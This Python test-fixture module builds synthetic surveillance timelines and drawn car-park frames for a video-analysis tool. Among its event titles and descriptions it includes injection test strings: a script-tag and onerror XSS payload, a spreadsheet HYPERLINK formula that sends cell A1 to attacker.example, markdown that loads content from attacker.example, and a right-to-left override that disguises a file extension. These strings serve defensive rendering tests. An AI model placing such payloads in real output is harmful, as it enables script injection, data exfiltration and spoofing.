"""Timelines to test readers with, and their pictures: a night in a car park, a night without events, a very busy day.

They keep every rule of the format: coverage tiles the duration, evidence was shown, events end where their evidence does.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

import cv2
import numpy as np

from videoscan.document import (
    Chapter,
    CostRecord,
    CoverageSpan,
    DescriberRecord,
    ErrorRecord,
    Event,
    Evidence,
    FrameCounts,
    Part,
    Review,
    SourceRecord,
    Timeline,
    Timing,
    UsageRecord,
    WindowRecord,
)

if TYPE_CHECKING:
    from pathlib import Path

SCRIPT = "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> van & trailer"
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
RTL = "رجل يفتح باب السيارة \u202eexe.gnp"
CHINESE = "一名男子走近白色轿车并试拉车门"
FOX = "🦊 A fox crosses the lane"
MARKUP = (
    "# Not a heading | `code` **bold** [link](https://attacker.example) ![](https://attacker.example/x.png)\n\n--> 00:00 {\\an8}"
)

FPS = 10
STEP = 2.0
"""Seconds between sampled frames."""


@dataclass(frozen=True)
class Gap:
    start: float
    end: float
    state: str
    reason: str


def draw(
    time: float, box: tuple[float, float, float, float] | None, *, size: tuple[int, int] = (1280, 720), seed: int = 0
) -> bytes:
    """JPEG of a car park at night with the camera's clock, and somebody standing in `box`."""
    width, height = size
    rng = np.random.default_rng(seed)
    rows = np.linspace(14, 62, height, dtype=np.float32)[:, None]
    image = np.repeat(np.repeat(rows, width, axis=1)[:, :, None], 3, axis=2) * np.array([1.1, 0.95, 0.85], np.float32)
    lamp = np.zeros((height, width), np.float32)
    for x in (0.2, 0.62, 0.93):
        cv2.ellipse(lamp, (int(x * width), int(0.52 * height)), (width // 7, height // 6), 0, 0, 360, 95, -1)
    image += cv2.GaussianBlur(lamp, (0, 0), width / 22)[:, :, None] * np.array([0.55, 0.85, 1.0], np.float32)
    image = np.clip(image + rng.normal(0, 4, image.shape), 0, 255).astype(np.uint8)
    for i in range(9):
        x = int((0.04 + 0.115 * i) * width)
        cv2.line(
            image, (x, int(0.62 * height)), (int(x - 0.05 * width), int(0.95 * height)), (120, 125, 128), max(1, width // 400)
        )
    for i, colour in ((1, (92, 88, 84)), (4, (60, 44, 52)), (6, (150, 150, 148))):
        x, y = int((0.05 + 0.115 * i) * width), int(0.66 * height)
        cv2.rectangle(image, (x, y), (x + int(0.085 * width), y + int(0.13 * height)), colour, -1)
        cv2.rectangle(image, (x + width // 90, y - int(0.05 * height)), (x + int(0.07 * width), y), colour, -1)
    if box:
        x0, y0, x1, y1 = (round(v * s) for v, s in zip(box, (width, height, width, height), strict=True))
        middle, top = (x0 + x1) // 2, y0 + (y1 - y0) // 6
        cv2.ellipse(image, (middle, (y0 + y1) // 2 + top // 20), ((x1 - x0) // 4, (y1 - y0) // 3), 0, 0, 360, (34, 36, 52), -1)
        cv2.circle(image, (middle, top), max(2, (y1 - y0) // 9), (120, 140, 170), -1)
    text = f"CAM 3  2026-11-21 {22 + int(time // 3600):02d}:{int(time // 60) % 60:02d}:{int(time) % 60:02d}"
    cv2.putText(
        image, text, (width // 60, height // 18), cv2.FONT_HERSHEY_SIMPLEX, width / 1600, (235, 235, 235), max(1, width // 700)
    )
    return cv2.imencode(".jpg", image, [cv2.IMWRITE_JPEG_QUALITY, 82])[1].tobytes()


def frame_at(time: float) -> int:
    return round(time * FPS)


def save(folder: Path | None, time: float, box=None, *, size=(1280, 720)) -> str:
    path = f"frames/{frame_at(time):08d}.jpg"
    if folder:
        (folder / "frames").mkdir(exist_ok=True)
        (folder / path).write_bytes(draw(time, box, size=size, seed=frame_at(time)))
    return path


def covered(duration: float, kept: list[float], gaps: list[Gap]) -> tuple[CoverageSpan, ...]:
    """A kept frame is described for one sampling step and stands for what follows; gaps lie over that."""
    spans: list[CoverageSpan] = []

    def add(start: float, end: float, state: str, **more) -> None:
        if end > start:
            spans.append(CoverageSpan(start=start, end=end, state=state, **more))

    def look(start: float, end: float) -> None:
        inside = [time for time in kept if start <= time < end]
        assert inside[:1] == [start], f"nothing was kept at {start}"
        for time, following in zip(inside, [*inside[1:], end], strict=True):
            add(time, min(time + STEP, following), "described")
            add(min(time + STEP, following), following, "unchanged", same_as=frame_at(time))

    at = 0.0
    for gap in [*gaps, Gap(duration, duration, "absent", "end")]:
        if gap.start > at:
            look(at, gap.start)
        add(gap.start, gap.end, gap.state, reason=gap.reason)
        at = gap.end
    return tuple(spans)


def windows_of(
    kept: list[float], duration: float, failed: tuple[float, float] | None, *, size: int = 8
) -> tuple[WindowRecord, ...]:
    groups = [kept[i : i + size] for i in range(0, len(kept), size)]
    records = []
    for index, group in enumerate(groups):
        end = groups[index + 1][0] if index + 1 < len(groups) else duration
        bad = failed is not None and failed[0] <= group[0] < failed[1]
        records.append(
            WindowRecord(
                index=index,
                start=group[0],
                end=end,
                frames=tuple(map(frame_at, group)),
                status="failed" if bad else "described",
                summary=None if bad else "Quiet, with the events that are listed.",
                observations=() if bad else ("The barrier is down.",),
                error=ErrorRecord(kind="ContentFiltered", message="the endpoint refused these pictures") if bad else None,
                attempts=3 if bad else 1,
                usage=UsageRecord(requests=1, images=len(group)),
            )
        )
    return tuple(records)


def carpark(folder: Path | None = None) -> Timeline:
    """Eight hours, eight events in many scripts and none of them well-meant, and every kind of gap. Pictures go to `folder`."""
    duration = 28800.0
    gaps = [
        Gap(2470.0, 2532.0, "lost", "the file is damaged here"),
        Gap(9000.0, 9960.0, "failed", "window 6: the endpoint refused these pictures (ContentFiltered)"),
        Gap(14400.0, 15300.0, "absent", "between two recordings"),
        Gap(27000.0, duration, "skipped", "the budget of 2 USD was spent"),
    ]
    told = [
        (
            751.0,
            40.0,
            "Person walks between parked cars",
            "Dark jacket, rucksack. Looks into two cars and walks on.",
            ["person", "loitering"],
            0.91,
            0.6,
            [(0.30, 0.42, 0.38, 0.74), (0.44, 0.42, 0.52, 0.74), (0.60, 0.43, 0.67, 0.74)],
        ),
        (
            1804.0,
            90.0,
            CHINESE,
            "穿深色外套，戴帽子。试拉两次后向左离开画面。",
            ["人员", "可疑"],
            0.84,
            0.9,
            [(0.66, 0.40, 0.76, 0.78), (0.60, 0.40, 0.70, 0.78)],
        ),
        (1850.0, 20.0, SCRIPT, MARKUP, ["vehicle", "<b>tag</b>"], 0.35, 0.2, [(0.02, 0.55, 0.2, 0.8)]),
        (4210.0, 12.0, FORMULA, "+1 person at the barrier\t=1+1", ["person"], 0.5, None, [(0.8, 0.3, 0.9, 0.6)]),
        (7300.0, 33.0, RTL, "السيارة بيضاء. The plate cannot be read.", ["vehicle"], 0.62, 0.4, [(0.46, 0.52, 0.68, 0.80)]),
        (12500.0, 8.0, FOX, "From left to right, without stopping 🚗.", ["animal"], None, None, [(0.5, 0.80, 0.58, 0.9)]),
        (18000.0, 600.0, "Camera covered", "The picture is dark and without texture.", ["camera"], 0.99, 0.8, [None]),
    ]
    events, kept = [], [float(t) for t in range(0, 27000, 600) if not any(g.start <= t < g.end for g in gaps)]
    kept += [gap.end for gap in gaps if gap.end < duration]
    for number, (start, length, title, description, tags, confidence, importance, boxes) in enumerate(told):
        times = [start + length * i / len(boxes) for i in range(len(boxes))]
        kept += times
        measured = title == "Camera covered"
        events.append(
            Event(
                id=f"e-{frame_at(start):x}",
                origin="measured" if measured else "model",
                start=start,
                end=start + length,
                start_after=start - STEP,
                end_before=start + length,
                title=title,
                description=description,
                tags=tuple(tags),
                confidence=confidence,
                importance=importance,
                attributes={"plate": "unreadable", "persons": 1} if number == 4 else {},
                evidence=tuple(
                    Evidence(frame=frame_at(time), time=time, picture=save(folder, time, box), region=box)
                    for time, box in zip(times, boxes, strict=True)
                ),
                alerts=("night visitor",) if number == 1 else (),
                flags=("confidence 1.4 was clamped",) if number == 2 else (),
                review=Review(state="rejected", by="Lin", at="2026-11-22T08:00:00Z") if number == 5 else None,
            )
        )
    events.append(
        Event(
            id="p-1",
            origin="person",
            start=21000.0,
            end=21060.0,
            start_after=21000.0,
            end_before=21060.0,
            title="Guard's round",
            description="Known from the rota.",
            tags=("guard",),
            review=Review(state="added", by="Lin", at="2026-11-22T08:02:00Z"),
        )
    )
    kept += [event.end for event in events]
    kept = sorted(set(kept))
    windows = windows_of(kept, duration, (9000.0, 9960.0))
    kept_known = [t for t in kept if not any(g.start <= t < g.end for g in gaps)]
    return Timeline(
        source=SourceRecord(
            uri="/footage/停车场/car park 3 🌙.mp4",
            camera="Car park 3",
            duration=duration,
            width=1280,
            height=720,
            fps=10.0,
            clock="2026-11-21T22:00:00+01:00",
            parts=(
                Part(uri="a.mp4", start=0, duration=14400, clock="2026-11-21T22:00:00+01:00"),
                Part(uri="b.mp4", start=15300, duration=13500, clock="2026-11-22T02:15:00+01:00"),
            ),
        ),
        created="2026-11-22T07:31:02Z",
        videoscan="0.1.0",
        profile={"prompt": {"question": "Who comes near the cars, and what do they do?"}},
        describer=DescriberRecord(
            kind="openai",
            model="qwen3-vl-8b",
            endpoint="https://models.example/v1?token=hidden",
            note="Descriptions are a model's words about still pictures: check the evidence before you act on them.",
        ),
        summary="A quiet night. Two people took an interest in parked cars; one tried a door handle at 22:30.\nThe camera was covered from 3:00 to 3:10.",
        chapters=(
            Chapter(
                start=0,
                end=7200,
                title="Late evening",
                summary="Visitors among the cars.",
                events=tuple(e.id for e in events[:4]),
            ),
            Chapter(start=7200, end=duration, title="Deep night", events=tuple(e.id for e in events[4:])),
        ),
        events=tuple(sorted(events, key=lambda e: e.start)),
        windows=windows,
        coverage=covered(duration, kept_known, gaps),
        frames=FrameCounts(decoded=14100, sampled=13200, kept=len(kept)),
        usage=UsageRecord(
            requests=11,
            retries=3,
            images=len(kept),
            image_bytes=7_340_000,
            prompt_tokens=81_422,
            completion_tokens=3_911,
            cost=CostRecord(amount=0.31, currency="USD", prices_as_of="2026-11-01"),
        ),
        timing=Timing(wall=412.0, decode=120.0, encode=3.0, describe_wait=280.0),
    )


def quiet(*, missing: bool = False) -> Timeline:
    """A night in which nothing happened; with `missing`, a part of it was not looked at. No clock, no camera, no pictures."""
    duration = 3600.0
    kept = [float(t) for t in range(0, 3600, 300)]
    gaps = [Gap(1200.0, 1500.0, "lost", "the file ends early")] if missing else []
    kept = [t for t in kept if not any(g.start <= t < g.end for g in gaps)]
    return Timeline(
        source=SourceRecord(uri="/footage/night.mp4", duration=duration, width=640, height=360, fps=25.0),
        created="2026-11-22T07:31:02Z",
        videoscan="0.1.0",
        profile={},
        describer=DescriberRecord(
            kind="offline", note="Measured by OpenCV on this computer. It sees change, and is no language model."
        ),
        windows=windows_of(kept, duration, None),
        coverage=covered(duration, kept, gaps),
        frames=FrameCounts(decoded=1800, sampled=1800, kept=len(kept)),
    )


def busy(folder: Path | None = None, *, count: int = 5000, pictures: int = 1000) -> Timeline:
    """`count` events, one every ten seconds, that overlap; `pictures` different files, each cited by several of them."""
    duration = count * 10.0
    if folder:
        (folder / "frames").mkdir(exist_ok=True)
        base = cv2.imdecode(np.frombuffer(draw(0, (0.4, 0.4, 0.5, 0.8), size=(640, 360)), np.uint8), cv2.IMREAD_COLOR)
        for number in range(pictures):
            image = base.copy()
            cv2.putText(image, str(number), (250, 200), cv2.FONT_HERSHEY_SIMPLEX, 2, (255, 255, 255), 3)
            (folder / f"frames/{number * 100:08d}.jpg").write_bytes(cv2.imencode(".jpg", image)[1].tobytes())
    kept = [i * 10.0 for i in range(count)]
    events = tuple(
        Event(
            id=f"e-{i}",
            origin="model",
            start=kept[i],
            end=min(duration, kept[i] + 15.0),
            start_after=max(0.0, kept[i] - 2),
            end_before=min(duration, kept[i] + 15.0),
            title=f"Vehicle {i} passes",
            description="A car goes from left to right, slows down at the barrier and waits.",
            tags=("vehicle", "barrier" if i % 7 == 0 else "lane"),
            confidence=0.5 + (i % 50) / 100,
            evidence=(
                Evidence(
                    frame=frame_at(kept[i]),
                    time=kept[i],
                    picture=f"frames/{i % pictures * 100:08d}.jpg",
                    region=(0.4, 0.4, 0.5, 0.8),
                ),
            ),
        )
        for i in range(count)
    )
    return Timeline(
        source=SourceRecord(
            uri="/footage/gate.mp4",
            camera="Gate",
            duration=duration,
            width=640,
            height=360,
            fps=10.0,
            clock="2026-11-21T06:00:00",
        ),
        created="2026-11-22T07:31:02Z",
        videoscan="0.1.0",
        profile={},
        describer=DescriberRecord(kind="openai", model="qwen3-vl-8b"),
        events=events,
        windows=windows_of(kept, duration, None, size=16),
        coverage=covered(duration, kept, []),
        frames=FrameCounts(decoded=25_000, sampled=25_000, kept=count),
    )
